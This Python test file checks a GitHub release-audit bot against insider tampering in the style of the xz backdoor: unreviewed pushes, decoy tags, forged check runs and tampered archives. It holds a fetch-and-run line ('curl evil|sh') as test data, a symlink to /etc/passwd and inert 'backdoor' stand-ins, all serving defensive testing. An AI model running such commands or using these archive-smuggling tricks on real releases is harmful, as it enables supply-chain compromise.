"""Attacks on the release audit: an insider with write access trying to ship an unreviewed change
or a tampered archive without the ``countersign release`` check failing, and an outsider with a
sock-puppet account. Each test asserts the safe behaviour; those marked "Was a hole (fixed)" failed
before the fix they describe."""

from __future__ import annotations

import asyncio
import gzip
import io
import struct
import tarfile
import time
import unicodedata
import zipfile
from typing import Any

import pytest

from bot.core.archive import Limits, compare_with_tree, read_archive
from bot.core.record import encode_record
from bot.core.release_audit import release_marker
from bot.downloads import DownloadError, fetch
from tests.fakegithub import FakePyPI
from tests.support import Bot
from tests.test_archive import make_tar, make_zip
from tests.test_merge_audit import audit_issues, make_repo, merge_and_deliver
from tests.test_release_audit import (
    TREE,
    project,
    publish,
    release_issues,
    release_record,
    release_run,
    release_runs,
    reviewed_merge,
    source_tarball,
    tree_at,
)

# ---------------------------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------------------------


async def say(bot: Bot, target: Any, user: str, body: str) -> Any:
    """Comment ``body`` as ``user`` on an issue or pull request and deliver it."""
    comment = target.comment(user, body)
    assert await bot.deliver(bot.fake.webhooks.issue_comment(comment, "created")) == 202
    return comment


async def direct_push(bot: Bot, repo: Any, files: dict[str, str], *, deliver: bool = True) -> Any:
    """A direct push to main by the insider ``jiat`` (delivered unless ``deliver`` is false:
    a webhook that never arrived)."""
    repo.set_permission("jiat", "write")
    push = repo.push("main", [{"message": "tweak", "files": files}], pusher="jiat")
    if deliver:
        assert await bot.deliver(bot.fake.webhooks.push(push)) == 202
    return push


def tarball_bytes(members: list[tuple[str, bytes]], suffix: str = "tar.gz") -> bytes:
    return make_tar(members, suffix).getvalue()


def tree_members(repo: Any, tag: str, top: str = "xz-5.6.1") -> list[tuple[str, bytes]]:
    out = []
    for path, content in tree_at(repo, tag).items():
        data = content.encode() if isinstance(content, str) else content
        out.append((f"{top}/{path}", data))
    return out


async def plain_project(bot: Bot, files: dict[str, str]) -> Any:
    """A repository holding ``files`` (and its README.md) with a first release v5.6.0."""
    repo = make_repo(bot.fake, files=files)
    repo.create_tag("v5.6.0")
    return repo


def flagged(data: dict[str, Any]) -> list[tuple[str, str, str]]:
    return [
        (entry["path"], entry["kind"], entry["severity"])
        for archive in data["archives"]
        for entry in archive["flagged"]
    ]


# ---------------------------------------------------------------------------------------------
# What went in
# ---------------------------------------------------------------------------------------------


async def test_a_signed_off_push_record_does_not_cover_earlier_unrecorded_commits(bot: Bot):
    # Was a hole (fixed): ReleaseReader._group gathers every unclaimed commit into one run and, as soon as a
    # commit carries a push record, lets that record stand for the whole run (``run = []``). A
    # commit whose push was never recorded (webhook lost, App down, or a push whose head is
    # claimed by a pull request) is swallowed by the next recorded push: here a harmless m4 push
    # that two maintainers signed off covers the earlier unreviewed change to src/xz.c, and the
    # release passes.
    repo = await project(bot)
    await direct_push(bot, repo, {"src/xz.c": "int main(void) { backdoor(); }\n"}, deliver=False)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl typo fixed\n"})
    (issue,) = audit_issues(repo)
    for signer in ("bob", "carol"):
        await say(bot, issue, signer, "/audit approve looked at the m4 typo fix")
    assert issue.state == "closed"
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] != "success", data
    assert data["open"], "the unreviewed change to src/xz.c is not listed"


async def test_a_merge_of_another_branch_does_not_hide_its_direct_commit(bot: Bot):
    repo = await project(bot)
    repo.set_permission("jiat", "write")
    repo.create_branch("dev")
    # an unreviewed commit pushed to an unaudited branch, then a reviewed pull request into it
    repo.push("dev", [{"message": "x", "files": {"src/xz.c": "evil\n"}}], pusher="jiat")
    pr = repo.open_pull(author="jiat", base="dev", title="Docs", files={"docs/a": "a\n"})
    pr.review("bob", "APPROVED")
    merge = pr.merge(by="jiat", method="merge")
    # dev lands on main by a direct push whose head is the pull request's merge commit
    push = repo.push("main", [merge], pusher="jiat")
    await bot.deliver(bot.fake.webhooks.push(push))
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] != "success"
    assert any(row["status"] == "direct-push" for row in data["open"]), data["open"]


async def test_a_commit_of_a_pull_request_merged_before_the_range_is_not_covered_by_it(bot: Bot):
    repo = make_repo(bot.fake, files=TREE)
    repo.set_permission("jiat", "write")
    # reviewed as a whole (the evil commit and its revert), squash-merged before v5.6.0
    pr = repo.open_pull(
        author="jiat",
        title="Refactor",
        commits=[
            {"message": "step", "files": {"m4/gettext.m4": "dnl evil\n"}},
            {"message": "undo", "files": {"m4/gettext.m4": "dnl gettext\n"}},
        ],
    )
    pr.review("bob", "APPROVED")
    pr.review("carol", "APPROVED")
    await merge_and_deliver(bot, pr, by="bob", method="squash")
    repo.create_tag("v5.6.0")
    # the evil first commit itself is merged into main by hand
    evil = pr.commits[0]
    merge = repo.commit(
        message="merge",
        parents=[repo.head(), evil],
        author="jiat",
        files={"m4/gettext.m4": "dnl evil\n"},
    )
    push = repo.push("main", [merge], pusher="jiat")
    await bot.deliver(bot.fake.webhooks.push(push))
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure", data["open"]


async def test_a_countersign_record_forged_by_another_app_does_not_stand(bot: Bot):
    repo = await project(bot)
    push = await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"}, deliver=False)
    impostor = bot.fake.world.add_app("countersign-impostor")
    forged = {
        "kind": "push",
        "landed": True,
        "status": "direct-push",
        "conclusion": "success",
        "severity": "high",
        "signed_off": True,
        "signed_off_by": ["carol"],
        "before": push.before,
        "after": push.after,
    }
    repo.add_check_run(
        push.after,
        "countersign",
        app=impostor,
        text=encode_record(forged),
        external_id=f"push-main-{push.after}",
    )
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure"
    (row,) = data["open"]
    assert row["recorded"] is False and row["signed_off"] is False


async def test_a_release_check_run_of_another_app_on_the_tag_is_left_alone(bot: Bot):
    repo = await project(bot)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"})
    repo.create_tag("v5.6.1")
    sha = repo.tags["v5.6.1"]
    impostor = bot.fake.world.add_app("countersign-impostor")
    decoy = repo.create_issue("Release audit: v5.6.1", body="decoy", author="mallory")
    forged = {"kind": "release", "conclusion": "success", "issue": None}
    fake_run = repo.add_check_run(
        sha,
        "countersign release",
        app=impostor,
        conclusion="success",
        text=encode_record(dict(forged, issue={"repository": repo.full_name, "number": 1})),
        external_id="release-v5.6.1",
    )
    await publish(bot, repo, "v5.6.1")
    ours = [r for r in release_runs(repo, sha) if r.app is bot.fake.world.app]
    assert len(ours) == 1 and ours[0].conclusion == "failure"
    assert fake_run.conclusion == "success" and fake_run.text and "issue" in fake_run.text
    assert decoy.body == "decoy" and decoy.state == "open"
    (issue,) = release_issues(repo)
    assert issue.number != decoy.number


async def test_an_unreviewed_rebase_merge_is_listed(bot: Bot):
    repo = await project(bot)
    repo.set_permission("jiat", "write")
    pr = repo.open_pull(
        author="jiat",
        title="Two steps",
        commits=[
            {"message": "one", "files": {"docs/one": "1\n"}},
            {"message": "two", "files": {"m4/gettext.m4": "dnl two\n"}},
        ],
    )
    await merge_and_deliver(bot, pr, by="jiat", method="rebase")
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure"
    assert [row["key"] for row in data["open"]] == [f"pr-{pr.number}"]


# ---------------------------------------------------------------------------------------------
# The previous release
# ---------------------------------------------------------------------------------------------


async def test_a_never_audited_decoy_tag_is_not_taken_as_the_previous_release(bot: Bot):
    # Was a hole (fixed): ReleaseReader.read takes as the previous release whatever release tag
    # previous_release() names, without checking that it was ever audited. GitHub sends no push
    # event when more than three tags are pushed at once, so an insider can push a decoy
    # pre-release tag (v5.6.1rc1) at the head after an unreviewed change: v5.6.1 is then
    # compared with the decoy, the range is empty and the release passes.
    repo = await project(bot)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"})
    repo.create_tag("v5.6.1rc1")  # pushed with three other tags: no push event
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] != "success", data


async def test_deleting_the_previous_tag_widens_the_range(bot: Bot):
    repo = await project(bot)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"})
    await bot.deliver(bot.fake.webhooks.push(repo.delete_tag("v5.6.0")))
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["previous"] is None and data["conclusion"] == "failure"


async def test_odd_tag_names_are_not_taken_as_the_previous_release(bot: Bot):
    repo = await project(bot)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"})
    for odd in ("v5.6.1-final", "v5.6.1.post1", "latest", "v5.6.1_", "vv5.6.0", "v5.6.01"):
        repo.create_tag(odd)
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["previous"] == "v5.6.0" and data["conclusion"] == "failure"


async def test_thousands_of_tags_are_read_to_the_end(bot: Bot):
    repo = await project(bot)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"})
    for n in range(1500):
        repo.create_tag(f"nightly-{n:05d}")
    repo.create_tag("v5.6.1")
    bot.fake.reset_counts()
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["previous"] == "v5.6.0" and data["conclusion"] == "failure"
    assert bot.fake.count("POST /graphql") < 40


# ---------------------------------------------------------------------------------------------
# The policy that judges a release
# ---------------------------------------------------------------------------------------------


async def test_a_policy_loosened_inside_the_release_does_not_judge_its_own_archive(bot: Bot):
    repo = await project(bot)
    loosened = (
        "release:\n"
        '  generated: ["configure", "m4/build-to-host.m4", "m4/**"]\n'
        "  max_archive_mb: 1\n"
        "rules:\n"
        "  - name: build-system\n"
        '    paths: ["nothing-here"]\n'
        "    severity: low\n"
    )
    await direct_push(bot, repo, {".github/countersign.yml": loosened})
    repo.create_tag("v5.6.1")
    files = {**tree_at(repo, "v5.6.1"), "m4/build-to-host.m4": "dnl payload\n"}
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": source_tarball(files)})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert ("m4/build-to-host.m4", "added", "high") in flagged(data)
    assert data["conclusion"] == "failure"


async def test_a_release_tags_policy_change_cannot_switch_off_the_audit_of_a_tag(bot: Bot):
    # Was a hole (fixed): audit_pushed_tag (bot/service/releases.py) decides whether a pushed tag is a release
    # tag with the default branch's *current* policy, which the release itself may have changed.
    # An insider who only tags (no GitHub release) pushes `release.tags: ["release-*"]` together
    # with the unreviewed change: the tag v5.6.1 is then never audited and gets no check at all.
    repo = await project(bot)
    await direct_push(
        bot,
        repo,
        {
            ".github/countersign.yml": 'release:\n  tags: ["release-*"]\n',
            "m4/gettext.m4": "dnl evil\n",
        },
    )
    tag = repo.create_tag("v5.6.1")
    await bot.deliver(bot.fake.webhooks.push(tag))
    runs = release_runs(repo, repo.tags["v5.6.1"])
    assert runs and runs[0].conclusion == "failure", "the release tag was not audited"


# ---------------------------------------------------------------------------------------------
# What was shipped: paths
# ---------------------------------------------------------------------------------------------


async def test_a_payload_named_like_a_generated_file_at_another_depth_is_high(bot: Bot):
    # Was a hole (fixed): compare_with_tree excuses a sensitive file when a generated pattern without
    # wildcards matches it, but such a pattern ("aclocal.m4", "configure") is gitignore-style
    # and matches at any depth. The xz payload renamed m4/aclocal.m4 (picked up by
    # `aclocal -I m4` like any m4/*.m4) is listed as "generated" and the release passes. Only
    # the path the pattern names at the top ("aclocal.m4", "configure") should be excused.
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    files = {**tree_at(repo, "v5.6.1"), "m4/aclocal.m4": "dnl payload\n"}
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": source_tarball(files)})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert ("m4/aclocal.m4", "added", "high") in flagged(data), data["archives"]


@pytest.mark.parametrize(
    "stray",
    [
        ("README", b"a top-level file next to the folder\n"),
        ("xz-5.6.1-docs/README", b"a second top-level folder\n"),
        ("xz-5.6.1\\src\\note.c", b"a backslash name is one top-level file\n"),
    ],
)
async def test_a_stray_top_level_member_does_not_turn_a_tampered_file_into_low(
    bot: Bot, stray: tuple[str, bytes]
):
    # Was a hole (fixed): _strip_prefix strips the top-level folder only when every member is under it. One
    # stray member (a file next to the folder, a second folder, a name with backslashes) keeps
    # the prefix, so no path matches the tree: the tampered src/xz.c is reported as "added"
    # (low) under xz-5.6.1/ and the tree's copy as "missing" (low), and a release whose archive
    # holds no sensitive file is only neutral. A file whose content is not the tree's must stay
    # "differs" (high) (in a tree with build files the release fails, but for the wrong reason:
    # every build file is reported as "added").
    repo = await plain_project(bot, {"src/xz.c": "int main(void) { return 0; }\n"})
    repo.create_tag("v5.6.1")
    members = [
        (name, b"int main(void) { backdoor(); }\n" if name.endswith("src/xz.c") else content)
        for name, content in tree_members(repo, "v5.6.1")
    ]
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": tarball_bytes([*members, stray])})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure", data["archives"]


def test_an_archive_without_a_top_folder_is_not_stripped_of_the_trees_only_folder():
    # Was a hole (fixed): a repository whose files all live under one folder (lib/) and an archive made without
    # a top-level folder: _strip_prefix takes lib/ for the archive's top-level folder and strips
    # it, so the tampered lib/a.c is compared as "a.c" (added, low) instead of differing (high).
    tree = {"lib/a.c": _blob(b"int a;\n"), "lib/b.c": _blob(b"int b;\n")}
    archive = tarball_bytes([("lib/a.c", b"int a; backdoor();\n"), ("lib/b.c", b"int b;\n")])
    contents = read_archive("lib-1.0.tar.gz", io.BytesIO(archive))
    report = compare_with_tree(contents, tree, gitattributes=None, generated=(), sensitive=())
    assert report.severity == "high", report.entries


@pytest.mark.parametrize(
    "twin",
    [
        "xz-5.6.1/src/XZ.c",  # the same file on a case-insensitive file system (macOS, Windows)
        unicodedata.normalize("NFD", "xz-5.6.1/src/café.c"),  # the same file on macOS
    ],
)
async def test_a_member_that_overwrites_another_on_extraction_is_high(bot: Bot, twin: str):
    # Was a hole (fixed): _State.claim compares paths byte for byte. A second member whose path differs from a
    # tree file's only by case or by Unicode normalisation overwrites it when the archive is
    # extracted on macOS or Windows, yet it is reported as a harmless "added" file (low) and the
    # release is neutral. Such collisions should be "duplicate" findings (high).
    repo = await project(bot)
    await reviewed_merge(bot, repo, "Café", {"src/café.c": "int cafe;\n"})
    repo.create_tag("v5.6.1")
    members = tree_members(repo, "v5.6.1")
    members.append((twin, b"int main(void) { backdoor(); }\n"))
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": tarball_bytes(members)})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure", data["archives"]


@pytest.mark.parametrize(
    "alias",
    ["xz-5.6.1/./src/xz.c", "xz-5.6.1//src/xz.c", "./xz-5.6.1/src/xz.c", "xz-5.6.1/src/xz.c"],
)
async def test_a_second_member_for_the_same_path_is_a_duplicate(bot: Bot, alias: str):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    members = [*tree_members(repo, "v5.6.1"), (alias, b"int main(void) { backdoor(); }\n")]
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": tarball_bytes(members)})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert ("src/xz.c", "duplicate", "high") in flagged(data)
    assert data["conclusion"] == "failure"


async def test_links_in_an_archive_are_findings_and_never_followed(bot: Bot):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    symlink = tarfile.TarInfo("xz-5.6.1/m4/build-to-host.m4")
    symlink.type, symlink.linkname = tarfile.SYMTYPE, "/etc/passwd"
    hardlink = tarfile.TarInfo("xz-5.6.1/src/evil.c")
    hardlink.type, hardlink.linkname = tarfile.LNKTYPE, "xz-5.6.1/src/xz.c"
    fifo = tarfile.TarInfo("xz-5.6.1/src/fifo")
    fifo.type = tarfile.FIFOTYPE
    archive = make_tar([*tree_members(repo, "v5.6.1"), symlink, hardlink, fifo]).getvalue()
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": archive})
    data = release_record(repo, repo.tags["v5.6.1"])
    found = set(flagged(data))
    assert ("m4/build-to-host.m4", "link", "high") in found
    assert ("src/evil.c", "link", "high") in found
    assert ("src/fifo", "special-file", "high") in found
    assert data["conclusion"] == "failure"


async def test_a_tampered_file_marked_export_subst_is_still_checked(bot: Bot):
    # Was a hole (fixed): compare_with_tree lists any differing file that .gitattributes marks export-subst as
    # "export-subst" (none), whatever the difference. git archive only rewrites the $Format:...$
    # placeholders: a tarball whose src/version.h carries extra code is reported as fine. The
    # comparison should check that only the placeholders changed (or at least that the rest of
    # the lines are the tree's).
    repo = await plain_project(
        bot,
        {
            "src/xz.c": "int main(void) { return 0; }\n",
            "src/version.h": '#define COMMIT "$Format:%H$"\n',
            ".gitattributes": "src/version.h export-subst\n",
        },
    )
    repo.create_tag("v5.6.1")
    sha = repo.tags["v5.6.1"]
    files = {
        **tree_at(repo, "v5.6.1"),
        "src/version.h": f'#define COMMIT "{sha}"\n#include "/tmp/payload.h"\n',
    }
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": source_tarball(files)})
    data = release_record(repo, sha)
    assert data["conclusion"] == "failure", data["archives"]


# ---------------------------------------------------------------------------------------------
# What was shipped: formats and streams
# ---------------------------------------------------------------------------------------------


async def test_a_second_gzip_member_after_the_tarball_is_not_ignored(bot: Bot):
    # Was a hole (fixed): read_archive stops at the tar end-of-archive marker: whatever follows (a second
    # gzip member holding another tar, trailing garbage) is never read, and the release passes.
    # `tar --ignore-zeros` (and tarfile with ignore_zeros) extract it. Bytes after the end of
    # the archive should be a finding.
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    clean = tarball_bytes(tree_members(repo, "v5.6.1"))
    hidden = tarball_bytes([("xz-5.6.1/m4/build-to-host.m4", b"dnl payload\n")])
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": clean + hidden})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] != "success", data["archives"]


async def test_trailing_garbage_after_the_gzip_stream_is_not_ignored(bot: Bot):
    # Was a hole (fixed): the same as above with bytes that are not even gzip: nothing reads past the tar's
    # end, so the archive is "complete" and the release passes (gzip -d warns "trailing garbage
    # ignored"; the audit says nothing).
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    clean = tarball_bytes(tree_members(repo, "v5.6.1"))
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": clean + b"#!/bin/sh\ncurl evil|sh\n"})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] != "success", data["archives"]


def _local_entry(name: str, content: bytes) -> bytes:
    """A zip local file header and its data, with no central directory entry."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, content)
    data = buf.getvalue()
    (cd_offset,) = struct.unpack("<I", data[-6:-2])
    return data[:cd_offset]


async def test_a_zip_entry_missing_from_the_central_directory_is_not_ignored(bot: Bot):
    # Was a hole (fixed): zipfile reads the central directory only; a local entry it does not list (here
    # prepended) is extracted by streaming readers (bsdtar reading a pipe, Java's
    # ZipInputStream) but never compared: the release passes.
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    clean = make_zip(tree_members(repo, "v5.6.1")).getvalue()
    hidden = _local_entry("xz-5.6.1/m4/build-to-host.m4", b"dnl payload\n")
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.zip": hidden + clean})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] != "success", data["archives"]


async def test_a_zip_whose_local_header_names_another_file_is_unreadable(bot: Bot):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    clean = make_zip(tree_members(repo, "v5.6.1")).getvalue()
    # the first local header (same length name) says the data is another file
    forged = clean.replace(b"xz-5.6.1/src/xz.c", b"xz-5.6.1/src/x.m4", 1)
    assert forged != clean
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.zip": forged})
    data = release_record(repo, repo.tags["v5.6.1"])
    (archive,) = data["archives"]
    assert archive["severity"] == "high" and data["conclusion"] == "failure"
    assert "unreadable" in {entry["kind"] for entry in archive["flagged"]}


async def test_a_huge_declared_member_size_stops_reading_at_once(bot: Bot):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    huge = tarfile.TarInfo("xz-5.6.1/big.bin")
    huge.size = 3 << 30
    raw = huge.tobuf(tarfile.GNU_FORMAT) + b"\0" * 4096
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.gz": gzip.compress(raw)})
    data = release_record(repo, repo.tags["v5.6.1"])
    (archive,) = data["archives"]
    assert "archive-bomb" in {entry["kind"] for entry in archive["flagged"]}
    assert data["conclusion"] == "failure"


async def test_an_uncompressed_tarball_asset_is_checked(bot: Bot):
    # Was a hole (fixed): is_archive (bot/github/releases.py) only knows compressed suffixes and .zip: a plain
    # `xz-5.6.1.tar` (or `.tar.zst`, `.tar.lz`) carrying the payload is never downloaded, the
    # report says "No source archive was attached" and the release passes. read_archive reads
    # plain tar already; unknown archive-like assets should at least be reported as not checked.
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    files = {**tree_at(repo, "v5.6.1"), "m4/build-to-host.m4": "dnl payload\n"}
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar": source_tarball(files, suffix="tar")})
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure", data


async def test_a_misnamed_archive_is_read_as_what_it_holds(bot: Bot):
    repo = await project(bot)
    repo.create_tag("v5.6.1")
    files = {**tree_at(repo, "v5.6.1"), "m4/build-to-host.m4": "dnl payload\n"}
    await publish(bot, repo, "v5.6.1", {"xz-5.6.1.tar.xz": source_tarball(files, suffix="tar.gz")})
    data = release_record(repo, repo.tags["v5.6.1"])
    kinds = set(flagged(data))
    assert ("m4/build-to-host.m4", "added", "high") in kinds
    assert any(kind == "format-mismatch" for _, kind, _ in kinds)


def _blob(content: bytes) -> str:
    from bot.core.archive import blob_sha

    return blob_sha(content)


# ---------------------------------------------------------------------------------------------
# Downloads
# ---------------------------------------------------------------------------------------------


async def _raw_server(response: bytes) -> tuple[asyncio.AbstractServer, str]:
    """A loopback server that answers every request with ``response`` and closes."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(response)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    return server, f"http://127.0.0.1:{port}/asset.tar.gz"


@pytest.mark.parametrize(
    ("response", "reason"),
    [
        # says 100 bytes, sends 10 and hangs up
        (b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n" + b"x" * 10, "the download failed"),
        # says nothing of its size and sends more than the cap
        (b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + b"x" * 5000, "over the cap"),
        # says it is larger than the cap
        (b"HTTP/1.1 200 OK\r\nContent-Length: 999999999\r\n\r\n" + b"x" * 10, "over the cap"),
    ],
)
async def test_a_misleading_content_length_never_passes_for_a_whole_download(
    response: bytes, reason: str
):
    import aiohttp

    server, url = await _raw_server(response)
    try:
        async with aiohttp.ClientSession() as session:
            with pytest.raises(DownloadError) as raised:
                await fetch(session, url, limit=4096)
    finally:
        server.close()
        await server.wait_closed()
    assert reason in raised.value.reason


# ---------------------------------------------------------------------------------------------
# PyPI
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def bot_settings(fake_pypi: FakePyPI) -> dict[str, Any]:
    return {"pypi_url": fake_pypi.base_url}


def sdist_of(repo: Any, tag: str, extra: dict[str, str] | None = None) -> dict[str, str | bytes]:
    return {**tree_at(repo, tag), "PKG-INFO": "Metadata-Version: 2.1\n", **(extra or {})}


async def test_a_version_without_an_sdist_on_pypi_fails_closed(bot: Bot, fake_pypi: FakePyPI):
    repo = await project(bot, "release:\n  pypi: xz-utils\n")
    repo.create_tag("v5.6.1")
    fake_pypi.add_release("xz-utils", "5.6.1", {"xz_utils-5.6.1-py3-none-any.whl": b"PK\x05\x06"})
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    (archive,) = data["archives"]
    assert archive["source"] == "PyPI sdist" and archive["severity"] == "high"
    assert data["conclusion"] == "failure"


async def test_a_pypi_name_dropped_inside_the_release_is_still_compared(
    bot: Bot, fake_pypi: FakePyPI
):
    repo = await project(bot, "release:\n  pypi: xz-utils\n")
    await reviewed_merge(
        bot, repo, "Drop pypi", {".github/countersign.yml": "review:\n  approvals: 1\n"}
    )
    repo.create_tag("v5.6.1")
    tampered = sdist_of(repo, "v5.6.1", {"m4/build-to-host.m4": "dnl payload\n"})
    fake_pypi.add_release("xz-utils", "5.6.1", {"xz_utils-5.6.1.tar.gz": source_tarball(tampered)})
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert ("m4/build-to-host.m4", "added", "high") in flagged(data)


async def test_every_sdist_of_the_version_is_compared(bot: Bot, fake_pypi: FakePyPI):
    # Was a hole (fixed): find_sdist (bot/pypi.py) returns the first sdist the index lists. A version can list
    # more than one (a .tar.gz and a legacy .zip, still on PyPI for older versions, or on any
    # other index PYPI_URL names); pip picks by its own preference. The tampered .zip next to a
    # clean .tar.gz is never read and the release passes.
    repo = await project(bot, "release:\n  pypi: xz-utils\n")
    repo.create_tag("v5.6.1")
    clean = source_tarball(sdist_of(repo, "v5.6.1"))
    tampered = sdist_of(repo, "v5.6.1", {"m4/build-to-host.m4": "dnl payload\n"})
    evil_zip = make_zip(
        (f"xz_utils-5.6.1/{p}", c.encode() if isinstance(c, str) else c)
        for p, c in tampered.items()
    ).getvalue()
    fake_pypi.add_release(
        "xz-utils", "5.6.1", {"xz_utils-5.6.1.tar.gz": clean, "xz_utils-5.6.1.zip": evil_zip}
    )
    await publish(bot, repo, "v5.6.1")
    data = release_record(repo, repo.tags["v5.6.1"])
    assert data["conclusion"] == "failure", data["archives"]


# ---------------------------------------------------------------------------------------------
# Commands
# ---------------------------------------------------------------------------------------------


async def failing_release(bot: Bot) -> tuple[Any, Any]:
    """v5.6.1 with an unreviewed m4 change: a failing check and its release audit issue."""
    repo = await project(bot)
    await direct_push(bot, repo, {"m4/gettext.m4": "dnl evil\n"})
    repo.create_tag("v5.6.1")
    await publish(bot, repo, "v5.6.1")
    (issue,) = release_issues(repo)
    assert release_run(repo, repo.tags["v5.6.1"]).conclusion == "failure"
    return repo, issue


async def test_an_app_issue_in_another_repository_cannot_rerun_this_release(bot: Bot):
    repo, _ = await failing_release(bot)
    other = bot.fake.add_repo("octo-org/gadgets")
    app = bot.fake.world.app
    elsewhere = other.create_issue(
        "Release audit: v5.6.1",
        body=release_marker(repo.full_name, "v5.6.1") + "\nold",
        author=app.bot,
        app=app,
    )
    before = release_run(repo, repo.tags["v5.6.1"]).completed_at
    bot.fake.reset_counts()
    await say(bot, elsewhere, "mallory", "/audit")
    assert "not the audit issue" in elsewhere.comments[-1].body
    assert bot.fake.count("PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}") == 0
    assert release_run(repo, repo.tags["v5.6.1"]).completed_at == before


async def test_an_edited_release_issue_cannot_close_itself_by_naming_another_tag(bot: Bot):
    # Was a hole (fixed): release_subject (bot/service/releases.py) believes the marker in the body of an
    # issue this App opened, but anyone with triage access can edit that body. Renaming the
    # marker of the failing v5.6.1's issue to the passing v5.6.2 and commenting `/audit` makes
    # v5.6.2's audit adopt the issue (find_release_issue matches the marker) and close it with
    # "Nothing is left", while v5.6.1 still fails. The merge audit's issues are cross-checked
    # against the change's record (_recorded_issue_is); the release issue should be checked
    # against the release record's "issue" the same way.
    repo, issue = await failing_release(bot)
    await reviewed_merge(bot, repo, "Docs", {"README": "more docs\n"})
    repo.create_tag("v5.6.2")
    await publish(bot, repo, "v5.6.2")
    assert release_run(repo, repo.tags["v5.6.2"]).conclusion == "success"
    issue.body = issue.body.replace(
        release_marker(repo.full_name, "v5.6.1"), release_marker(repo.full_name, "v5.6.2")
    )
    await say(bot, issue, "mallory", "/audit")
    assert release_run(repo, repo.tags["v5.6.1"]).conclusion == "failure"
    assert issue.state == "open", issue.comments[-1].body


async def test_audit_in_a_decoy_issue_and_approve_in_the_release_issue_change_nothing(bot: Bot):
    repo, issue = await failing_release(bot)
    sha = repo.tags["v5.6.1"]
    run = release_run(repo, sha)
    decoy = repo.create_issue(
        "Release audit: v5.6.1", body=release_marker(repo.full_name, "v5.6.1"), author="mallory"
    )
    await say(bot, decoy, "mallory", "/audit")
    await say(bot, issue, "bob", "/audit approve")
    await say(bot, issue, "carol", "/audit approve")
    assert release_run(repo, sha) is run and run.conclusion == "failure"
    assert issue.state == "open"
    assert "signs nothing off" in issue.comments[-1].body or "Nothing was changed" in (
        issue.comments[-1].body
    )


# ---------------------------------------------------------------------------------------------
# Resource exhaustion
# ---------------------------------------------------------------------------------------------


def _tar_header(name: str) -> bytes:
    """A ustar header of an empty regular file (what tarfile writes, built without it: fast)."""
    header = bytearray(512)
    header[0:100] = name.encode().ljust(100, b"\0")
    header[100:108] = b"0000644\0"
